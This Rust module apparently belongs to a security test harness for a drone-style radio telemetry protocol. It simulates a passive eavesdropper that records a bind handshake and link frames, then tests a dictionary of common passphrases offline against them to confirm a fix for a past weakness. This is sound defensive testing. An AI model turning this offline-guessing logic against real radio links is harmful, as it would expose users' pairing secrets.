//! `--attack guess` (issue 30, finding 1): a passive radio records the bind (on the bind
//! channel) and then the link it set up (following the grid named by the offer's public
//! bind ID), and a guesser holding a dictionary — the true phrase among its words — runs
//! every check it can compute offline from the recording against every word. The phrase
//! counts as offline-checkable if some check singles out some words from the others: the
//! old scheme's recorded bind ID and nonce-frame tags did (one SHA-256 per guess).
//!
//! The checks are what a guesser can compute from a word and the recording without either
//! end's secret: the phrase's derivation (with the offer's public salt) and the earlier
//! scheme's unsalted hash, each as a link key, against the bind ID and against the tag of
//! every recorded link frame (nonce frames under their contexts, the others under the epoch
//! keys of the nonces heard in clear); and each end's part of the key agreement played
//! with the word against the other end's recorded frames (the accept's and the confirm's
//! tags). None of them depends on the true phrase: the link key is random, and the CPace
//! shares are uniformly random group elements whatever the phrase (spec §12.1).

use sha2::Digest;
use telemetry::frame::{Frame, Received, decode, open};
use telemetry::link::auth::TagContext;
use telemetry::link::bind::{Accepted, Answering, Offering, bind_radio_config};
use telemetry::link::{BIND_KEY, BindAuth, LinkKey, LinkParams, LinkRx, PacketRadio, SlotKind};
use telemetry::link::{HopSequence, PhraseSecret};

use super::Victim;
use super::grid::{Action, SlotAttacker, follow_grid, is_nonce};
use crate::driver::SimClock;
use crate::probe::Shared;

/// How long the guesser waits on the bind channel for the bind's confirmation, µs.
const BIND_LISTEN_US: u64 = 5_000_000;
/// Slots of the link recorded after the bind (four wraps of the slot counter).
const LINK_SLOTS: u64 = 1024;
/// Words any guesser tries first (the README's old example phrase among them).
const COMMON_WORDS: [&str; 10] = [
    "correct horse battery staple",
    "taulink binding phrase",
    "password password",
    "my quad my rules",
    "fpv freestyle 2024",
    "letmeinletmein",
    "the quick brown fox",
    "open sesame sesame",
    "iloveyou forever",
    "qwertyuiop asdf",
];

/// What the guesser recorded: the bind's frames and the link's.
#[derive(Clone, Debug, Default)]
pub struct Recording {
    /// Bind frames heard on the bind channel (offers, accepts, confirmations).
    pub bind: Vec<Vec<u8>>,
    /// Link frames heard on the link's grid.
    pub link: Vec<Vec<u8>>,
}

/// What the guesser found.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Verdict {
    /// Words tried.
    pub guesses: u32,
    /// Checks that could be computed for every word (each against the whole recording).
    pub checks: u32,
    /// Whether some check singles out some words (true for the true phrase, false for
    /// others): the recording then lets a guesser test phrases offline.
    pub offline_checkable: bool,
}

/// The guesser's dictionary: the common words and `true_phrase`.
pub fn dictionary(true_phrase: Option<&str>) -> Vec<String> {
    let mut words: Vec<String> = COMMON_WORDS.iter().map(|w| (*w).to_owned()).collect();
    words.extend(true_phrase.map(str::to_owned));
    words
}

/// The bind offer of a key agreement with a phrase in the recording.
fn recorded_offer(rec: &Recording) -> Option<telemetry::frame::BindOffer> {
    rec.bind.iter().find_map(|f| match decode(f, BIND_KEY) {
        Received::Accepted(Frame::BindOffer(o)) if o.exchange.is_some() => Some(o),
        _ => None,
    })
}

/// The link keys a guesser derives from `word`: the phrase derivation under the offer's
/// salt and the earlier scheme's unsalted hash, each as it is and as the key of the link.
fn candidate_keys(word: &str, salt: Option<[u8; 8]>, bind_id: u32) -> Vec<LinkKey> {
    let mut raw: Vec<[u8; 16]> = Vec::new();
    if let Some(salt) = salt {
        let prs = PhraseSecret::derive(word, salt).prs;
        raw.push(crate::scenario::head(&prs));
    }
    let old: [u8; 32] = sha2::Sha256::new()
        .chain_update(b"TauLink/1 binding phrase\0")
        .chain_update(word.as_bytes())
        .finalize()
        .into();
    raw.push(crate::scenario::head(&old));
    raw.into_iter()
        .map(LinkKey::from_bytes)
        .flat_map(|k| [k, k.for_link(bind_id)])
        .collect()
}

/// The nonce in a recorded nonce frame (clear: version, kind, slot, then 8 bytes).
fn nonce_of(frame: &[u8]) -> Option<u64> {
    frame
        .get(3..11)
        .and_then(|b| <[u8; 8]>::try_from(b).ok())
        .map(u64::from_le_bytes)
}

/// Whether any recorded link frame verifies under `key`: nonce frames in the follower's
/// and master's nonce contexts, the others under the epoch keys of every pair of nonces
/// heard, at the counters of the first wraps.
fn link_frames_verify(rec: &Recording, key: &LinkKey) -> bool {
    let nonces: Vec<(u64, bool)> = rec
        .link
        .iter()
        .filter(|f| is_nonce(f))
        .filter_map(|f| Some((nonce_of(f)?, super::grid::is_uplink(f))))
        .collect();
    let followers: Vec<u64> = nonces.iter().filter(|n| !n.1).map(|n| n.0).collect();
    let masters: Vec<u64> = nonces.iter().filter(|n| n.1).map(|n| n.0).collect();
    let accepted = |r: Received<'_>| matches!(r, Received::Accepted(_));
    rec.link.iter().any(|f| {
        if is_nonce(f) {
            accepted(open(f, key, &TagContext::FollowerNonce))
                || followers.iter().any(|&n| {
                    accepted(open(f, key, &TagContext::MasterNonce { follower_nonce: n }))
                })
        } else {
            let slot = u64::from(f.get(2).copied().unwrap_or(0));
            followers.iter().any(|&n| {
                masters.iter().any(|&m| {
                    let epoch = key.epoch_key(n, m);
                    (0..8u64)
                        .any(|w| accepted(open(f, &epoch, &TagContext::Counter(w << 8 | slot))))
                })
            })
        }
    })
}

/// Each check a guesser can compute for `word`: true where it would hold if `word` were
/// the phrase.
fn checks(rec: &Recording, word: &str) -> Vec<bool> {
    let offer = recorded_offer(rec);
    let (salt, bind_id) = offer.map_or((None, 0), |o| (o.exchange.and_then(|x| x.salt), o.bind_id));
    let keys = candidate_keys(word, salt, bind_id);
    let mut out = Vec::new();
    // The bind ID (hence the chip header and hops) from a phrase-derived key.
    out.push(keys.iter().any(|k| {
        let b = k.to_bytes();
        u32::from_le_bytes([b[0], b[1], b[2], b[3]]) == bind_id
    }));
    // Any link frame's tag under a phrase-derived key.
    out.push(keys.iter().any(|k| link_frames_verify(rec, k)));
    let (Some(offer), Some(salt)) = (offer, salt) else {
        return out;
    };
    let secret = PhraseSecret::derive(word, salt);
    let random = [0x5A; 32];
    // The master's part played with the word: does the recorded accept confirm it?
    let master = Offering::new(
        &LinkParams::from_offer(&offer),
        &BindAuth::Phrase(secret),
        &random,
    );
    out.push(rec.bind.iter().any(|f| {
        matches!(
            master.on_accept(f, &LinkKey::from_bytes([0; 16])),
            Some(Accepted::Bound { .. })
        )
    }));
    // The follower's part played with the word on the recorded offer: does the recorded
    // confirmation confirm it?
    let follower = Answering::new(&offer, &secret.prs, &random);
    out.push(follower.is_some_and(|a| {
        rec.bind
            .iter()
            .any(|f| matches!(a.on_confirm(f), Some(Some(_))))
    }));
    out
}

/// Runs every check for every word of `dictionary` against `rec`.
pub fn judge(rec: &Recording, dictionary: &[String]) -> Verdict {
    let results: Vec<Vec<bool>> = dictionary.iter().map(|w| checks(rec, w)).collect();
    let count = results.iter().map(Vec::len).min().unwrap_or(0);
    let singles_out = (0..count).any(|c| {
        let holds = results.iter().filter(|r| r.get(c) == Some(&true)).count();
        holds > 0 && holds < results.len()
    });
    Verdict {
        guesses: dictionary.len() as u32,
        checks: count as u32,
        offline_checkable: singles_out,
    }
}

/// Records every link frame heard for [`LINK_SLOTS`] slots.
struct LinkRecorder {
    frames: Vec<Vec<u8>>,
    first: Option<u64>,
    last: u64,
}

impl SlotAttacker for LinkRecorder {
    fn plan(&mut self, k: u64, _kind: SlotKind) -> Action {
        self.last = k;
        Action::Listen
    }

    fn heard(&mut self, k: u64, _kind: SlotKind, frame: &[u8]) {
        self.first.get_or_insert(k);
        self.frames.push(frame.to_vec());
    }

    fn done(&self) -> bool {
        self.first.is_some_and(|f| self.last >= f + LINK_SLOTS)
    }
}

/// The guesser's radio: records the bind (until its confirmation) and the link, then judges
/// `dictionary` and writes the verdict into `record`.
pub(super) async fn guess<R: PacketRadio>(
    mut radio: R,
    mut clock: SimClock,
    victim: &Victim,
    record: &Shared,
    dictionary: &[String],
) -> Result<(), R::Error> {
    radio.configure(&bind_radio_config(victim.band)).await?;
    radio.set_channel(0).await?;
    let mut rec = Recording::default();
    let mut buf = [0u8; 64];
    let end = clock.now_us() + BIND_LISTEN_US;
    let mut confirmed = false;
    while !confirmed && clock.now_us() < end {
        let timeout = u32::try_from(end - clock.now_us()).unwrap_or(u32::MAX);
        if let LinkRx::Packet { len, .. } = radio.receive(&mut buf, timeout).await? {
            let frame = buf.get(..len).unwrap_or(&[]);
            confirmed = matches!(
                decode(frame, BIND_KEY),
                Received::Accepted(Frame::BindConfirm { .. })
            );
            rec.bind.push(frame.to_vec());
        }
    }
    // The link the offer named (its public identity), whatever the victim table says.
    if let Some(offer) = recorded_offer(&rec) {
        let params = LinkParams::from_offer(&offer);
        let heard = Victim {
            bind_id: params.bind_id,
            config: params.radio_config(),
            hops: HopSequence::new(params.bind_id),
            schedule: params.schedule(),
            band: params.band,
            format: params.format,
        };
        radio.configure(&heard.config).await?;
        let mut recorder = LinkRecorder {
            frames: Vec::new(),
            first: None,
            last: 0,
        };
        follow_grid(&mut radio, &mut clock, &heard, &mut recorder, record).await?;
        rec.link = recorder.frames;
    }
    let verdict = judge(&rec, dictionary);
    let mut r = record.borrow_mut();
    r.guess = Some(super::GuessFigures {
        bind_frames: rec.bind.len() as u32,
        link_frames: rec.link.len() as u32,
        nonce_frames: rec.link.iter().filter(|f| is_nonce(f)).count() as u32,
        verdict,
    });
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use telemetry::frame::seal;

    /// A nonce frame sealed under `key`, as a follower sends it.
    fn nonce_frame(key: &LinkKey, nonce: u64) -> Vec<u8> {
        let mut buf = [0u8; 64];
        let len = seal(
            &Frame::Nonce {
                slot: 7,
                nonce,
                proof: None,
            },
            key,
            &TagContext::FollowerNonce,
            &mut buf,
        )
        .unwrap();
        buf[..len].to_vec()
    }

    #[test]
    fn a_frame_tagged_under_a_phrase_derived_key_is_caught() {
        // The guesser is no stub: a recording of a link whose key came from the phrase
        // (the earlier scheme's hash) lets the true word be checked.
        let phrase = "amber kettle under the oak";
        let old: [u8; 32] = sha2::Sha256::new()
            .chain_update(b"TauLink/1 binding phrase\0")
            .chain_update(phrase.as_bytes())
            .finalize()
            .into();
        let key = LinkKey::from_bytes(core::array::from_fn(|i| old[i]));
        let rec = Recording {
            bind: Vec::new(),
            link: vec![nonce_frame(&key, 0x1234_5678_9ABC)],
        };
        let v = judge(&rec, &dictionary(Some(phrase)));
        assert!(v.offline_checkable, "{v:?}");
        assert_eq!(v.guesses, 11);
        // A random key: nothing to check.
        let rec = Recording {
            bind: Vec::new(),
            link: vec![nonce_frame(&LinkKey::from_bytes([9; 16]), 5)],
        };
        assert!(!judge(&rec, &dictionary(Some(phrase))).offline_checkable);
    }
}
